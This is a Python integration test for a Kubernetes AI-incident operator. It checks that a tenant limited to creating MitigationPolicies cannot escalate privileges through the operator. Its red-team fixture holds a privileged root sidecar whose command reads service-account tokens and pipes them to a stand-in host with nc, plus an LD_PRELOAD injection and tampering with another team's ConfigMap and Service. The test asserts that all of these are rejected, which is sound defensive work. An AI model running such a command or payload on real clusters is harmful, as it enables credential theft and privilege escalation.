"""A tenant cannot borrow the operator's rights through a MitigationPolicy (issue 11, finding 1).

The chart is installed with `security.tenantBounds` listing one sidecar registry; the
operator runs as the chart's ServiceAccount with the bounds file the chart renders. A
tenant user who may only create MitigationPolicies and AIIncidents in the namespace
(`kubectl auth can-i update deployments` says no) writes the red team's policy: a
privileged root sidecar with any image and command, another image and LD_PRELOAD for the
model, another team's ConfigMap, another team's Service pointed at other pods. The policy
is `Ready=False/OutsideTenantBounds` with each problem, the incident changes nothing;
then an in-bounds policy of the same tenant is applied, and a fallback whose label is
removed makes it `Ready=False` again.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import time
from pathlib import Path

import kubernetes
import pytest
import yaml

from ai_incident_operator import bounds, kube
from ai_incident_operator.errors import NotFound
from ai_incident_operator.kube import Ref

import kit
from kit import (
    REPO,
    OperatorProcess,
    deployment,
    get_incident,
    kubectl,
    service,
    spec_snapshot,
    wait_for,
)

pytestmark = pytest.mark.integration
CHART = REPO / "charts" / "ai-incident-operator"
RELEASE = "ai-incident-operator"  # the local control plane has a static token for its SA
RELEASE_NS = "aiincident-system"
SA = "ai-incident-operator"
TENANT = "tenant@example.com"
LABELS = {"app.kubernetes.io/part-of": "chat"}
TENANT_BOUNDS = {"sidecarImages": ["registry.local/guardrail"]}


def helm(*args: str) -> str:
    if shutil.which("helm") is None:
        pytest.fail("helm is not on PATH: run 'make tools'", pytrace=False)
    result = subprocess.run(["helm", *args], capture_output=True, text=True)
    assert result.returncode == 0, f"helm {' '.join(args)}:\n{result.stderr}"
    return result.stdout


def _release_namespace_gone() -> bool:
    try:
        kubernetes.client.CoreV1Api().read_namespace(RELEASE_NS)
    except kubernetes.client.ApiException as err:
        return err.status == 404
    return False


@pytest.fixture
def release(cluster, solo_namespace):
    """The chart, watching the test's namespace, with tenant bounds; uninstalled after."""
    # Another module's release may still be going away (its namespace terminating).
    existing = subprocess.run(["helm", "status", RELEASE, "-n", RELEASE_NS], capture_output=True)
    if existing.returncode != 0:
        wait_for(_release_namespace_gone, 120, f"namespace {RELEASE_NS} gone")
    helm(
        "upgrade", "--install", RELEASE, str(CHART), "--namespace", RELEASE_NS,
        "--create-namespace", "--reset-values", "--set", f"serviceAccount.name={SA}",
        "--set", "replicaCount=0",  # the operator under test runs here, as that SA
        "--set", f"watchNamespaces={{{solo_namespace}}}",
        "--set-json", f"security.tenantBounds={json.dumps(TENANT_BOUNDS)}",
    )  # fmt: skip
    yield solo_namespace
    subprocess.run(["helm", "uninstall", RELEASE, "-n", RELEASE_NS], capture_output=True)
    kubernetes.client.CoreV1Api().delete_namespace(RELEASE_NS)


def as_tenant(*args: str, input: str | None = None) -> subprocess.CompletedProcess:
    return kubectl(*args, "--as", TENANT, check=False, input=input)


def can_i(verb: str, resource: str, namespace: str) -> bool:
    result = as_tenant("auth", "can-i", verb, resource, "-n", namespace)
    return result.stdout.strip() == "yes"


def tenant_creates(namespace: str, body: dict) -> None:
    result = as_tenant("create", "-n", namespace, "-f", "-", input=json.dumps(body))
    assert result.returncode == 0, result.stderr


def policy(name: str, priority: int, responses: list) -> dict:
    return {
        "apiVersion": "aiincident.io/v1alpha1", "kind": "MitigationPolicy",
        "metadata": {"name": name},
        "spec": {"priority": priority, "targetSelector": {"matchLabels": LABELS},
                 "responses": responses},
    }  # fmt: skip


def incident(name: str, severity: int) -> dict:
    return {
        "apiVersion": "aiincident.io/v1alpha1", "kind": "AIIncident",
        "metadata": {"name": name},
        "spec": {"category": "HarmfulOutput", "severity": severity,
                 "target": {"name": "chat-llm"}},
    }  # fmt: skip


RED_TEAM = [{"severity": 1, "actions": [
    {"type": "GuardrailSidecar",
     "container": {"name": "helper", "image": "evil.example/miner:1",
                   "command": ["sh", "-c", "cat /var/run/secrets/*/token | nc evil 1"],
                   "securityContext": {"privileged": True, "runAsUser": 0}}},
    {"type": "ConservativeConfig", "container": "llm", "image": "evil.example/llm:1",
     "env": {"LD_PRELOAD": "/tmp/x.so", "TEMPERATURE": "0"},
     "configMap": {"name": "payments-config", "data": {"limit": "999999"}}},
    {"type": "TrafficShift", "router": {"kind": "Service", "name": "payments"},
     "fallback": {"service": "internal"}},
]}]  # fmt: skip

IN_BOUNDS = [{"severity": 2, "actions": [
    {"type": "GuardrailSidecar",
     "container": {"name": "guardrail", "image": "registry.local/guardrail:1",
                   "ports": [{"containerPort": 8001}],
                   "securityContext": {"runAsNonRoot": True, "runAsUser": 10001,
                                       "allowPrivilegeEscalation": False}},
     "servicePort": {"service": "chat", "port": "http", "targetPort": 8001}},
    {"type": "ConservativeConfig", "container": "llm", "env": {"TEMPERATURE": "0"},
     "configMap": {"name": "chat-config", "data": {"max_tokens": "256"}}},
    {"type": "TrafficShift", "router": {"kind": "Service", "name": "chat"},
     "fallback": {"service": "chat-fallback"}},
]}]  # fmt: skip

WATCHED = (("Deployment", "chat-llm"), ("Service", "chat"), ("Service", "payments"),
           ("ConfigMap", "chat-config"), ("ConfigMap", "payments-config"))  # fmt: skip


def snapshot(ns: str) -> dict:
    return {f"{k}/{n}": spec_snapshot(kube.get(Ref(k, ns, n))) for k, n in WATCHED}


def ready_condition(ns: str, name: str) -> dict:
    try:
        body = kube.get(Ref("MitigationPolicy", ns, name)) or {}
    except NotFound:
        return {}
    conditions = (body.get("status") or {}).get("conditions") or []
    return next((c for c in conditions if c["type"] == "Ready"), {})


def condition(ns: str, name: str, type_: str) -> dict:
    conditions = get_incident(ns, name).get("status", {}).get("conditions") or []
    return next((c for c in conditions if c["type"] == type_), {})


def setup_model(ns: str) -> None:
    model = deployment("chat-llm", LABELS)
    model["spec"]["template"]["spec"]["volumes"] = [{"name": "config", "configMap": {"name": "chat-config"}}]  # fmt: skip
    kube.create("Deployment", ns, model)
    kube.create("Service", ns, service("chat", "chat-llm"))
    kube.create("Service", ns, service("chat-fallback", "chat-fallback"))  # labelled a fallback
    kube.create("Service", ns, service("payments", "payments"))  # another team's
    kube.create("Service", ns, service("internal", "admin-api"))  # nobody's fallback
    for name, data in (("chat-config", {"max_tokens": "4096"}), ("payments-config", {"limit": "10"})):  # fmt: skip
        kube.create("ConfigMap", ns, {"metadata": {"name": name}, "data": data})


def tenant_rights(ns: str) -> None:
    """Create-only on MitigationPolicies and AIIncidents: nothing else in the namespace."""
    rbac = kubernetes.client.RbacAuthorizationV1Api()
    rbac.create_namespaced_role(ns, {"metadata": {"name": "policy-author"}, "rules": [
        {"apiGroups": ["aiincident.io"], "resources": ["mitigationpolicies", "aiincidents"],
         "verbs": ["create"]}]})  # fmt: skip
    rbac.create_namespaced_role_binding(ns, {
        "metadata": {"name": "policy-author"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "policy-author"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": TENANT}],
    })  # fmt: skip
    wait_for(lambda: can_i("create", "mitigationpolicies.aiincident.io", ns), 20, "tenant rights")
    for verb, resource in (("update", "deployments"), ("patch", "deployments"),
                           ("update", "services"), ("update", "configmaps")):  # fmt: skip
        assert not can_i(verb, resource, ns), f"tenant may {verb} {resource}"


def run_operator(ns: str, local_cluster, tmp_path: Path) -> OperatorProcess:
    """The operator as the chart's ServiceAccount, with the bounds file the chart rendered."""
    rendered = kube.get(Ref("ConfigMap", RELEASE_NS, f"{RELEASE}-tenant-bounds"))
    assert yaml.safe_load(rendered["data"]["tenant-bounds.yaml"]) == TENANT_BOUNDS
    bounds_file = tmp_path / "tenant-bounds.yaml"
    bounds_file.write_text(rendered["data"]["tenant-bounds.yaml"])
    kubeconfig = kit.sa_kubeconfig(local_cluster, RELEASE_NS, SA, tmp_path / "sa-kubeconfig")
    env = {
        "KUBECONFIG": str(kubeconfig),
        "AIINCIDENT_NAMESPACE": RELEASE_NS,
        "AIINCIDENT_RESYNC_SECONDS": "2",
    }
    args = ("--namespace", ns, "--webhook-listen", "", "--tenant-bounds", str(bounds_file))
    return OperatorProcess("tenant-bounds", *args, env=env).start()


def test_a_tenant_cannot_borrow_the_operators_rights(release, local_cluster, tmp_path):
    ns = release
    setup_model(ns)
    tenant_rights(ns)
    proc = run_operator(ns, local_cluster, tmp_path)
    try:
        before = snapshot(ns)
        tenant_creates(ns, policy("red", 100, RED_TEAM))
        cond = wait_for(
            lambda: (c := ready_condition(ns, "red")).get("status") == "False" and c,
            30, f"red policy Ready=False (log: {proc.log_path})",
        )  # fmt: skip
        assert cond["reason"] == bounds.REASON, cond
        for words in ("image 'evil.example/miner:1'", "privileged", "runAsUser: 0 (root)",
                      "overrides the image's command/args", "image 'evil.example/llm:1'",
                      "env LD_PRELOAD", "configMap payments-config is not read by Deployment chat-llm",
                      "Service payments, which selects none of the incident's targets",
                      "fallback Service internal is not marked as a fallback",
                      "ClusterMitigationPolicy"):  # fmt: skip
            assert words in cond["message"], (words, cond["message"])

        tenant_creates(ns, incident("harm", 1))
        wait_for(lambda: condition(ns, "harm", "Mitigated").get("reason") == "NoPolicy", 30,
                 "the red policy is not used")  # fmt: skip
        time.sleep(3)  # a resync or two: still nothing
        assert snapshot(ns) == before

        # The same tenant's policy within the bounds still works.
        tenant_creates(ns, policy("good", 200, IN_BOUNDS))
        wait_for(lambda: ready_condition(ns, "good").get("status") == "True", 30,
                 f"good policy Ready (log: {proc.log_path})")  # fmt: skip
        tenant_creates(ns, incident("quality", 2))
        wait_for(lambda: get_incident(ns, "quality").get("status", {}).get("phase") == "Mitigated",
                 40, f"quality mitigated (log: {proc.log_path})")  # fmt: skip
        states = {m["action"]: m["state"] for m in get_incident(ns, "quality")["status"]["mitigations"]}  # fmt: skip
        assert states == dict.fromkeys(("GuardrailSidecar", "ConservativeConfig", "TrafficShift"), "Applied")  # fmt: skip
        pod = kube.get(Ref("Deployment", ns, "chat-llm"))["spec"]["template"]["spec"]
        model, sidecar = pod["containers"]
        assert model["image"] == "registry.local/llm:v42"  # no image change
        assert {e["name"]: e.get("value") for e in model.get("env") or []} == {"TEMPERATURE": "0"}
        assert sidecar["name"] == "guardrail" and sidecar["image"] == "registry.local/guardrail:1"
        assert not (sidecar.get("securityContext") or {}).get("privileged")
        assert not sidecar.get("command")
        assert kube.get(Ref("Service", ns, "chat"))["spec"]["selector"] == {"app": "chat-fallback"}
        after = snapshot(ns)
        for key in ("Service/payments", "ConfigMap/payments-config"):
            assert after[key] == before[key], key  # no other team's object changed
        assert kube.get(Ref("ConfigMap", ns, "chat-config"))["data"] == {"max_tokens": "256"}

        # Whoever owns the Services takes the fallback label away: the re-check notices.
        kube.patch(Ref("Service", ns, "chat-fallback"),
                   {"metadata": {"labels": {bounds.FALLBACK_LABEL: None}}})  # fmt: skip
        cond = wait_for(
            lambda: (c := ready_condition(ns, "good")).get("status") == "False" and c,
            30, "good policy Ready=False once its fallback is unmarked",
        )  # fmt: skip
        assert cond["reason"] == bounds.REASON
        assert "fallback Service chat-fallback is not marked as a fallback" in cond["message"]
        log = proc.log_path.read_text(errors="replace")
        assert "Traceback" not in log, log[-3000:]
    finally:
        proc.stop()
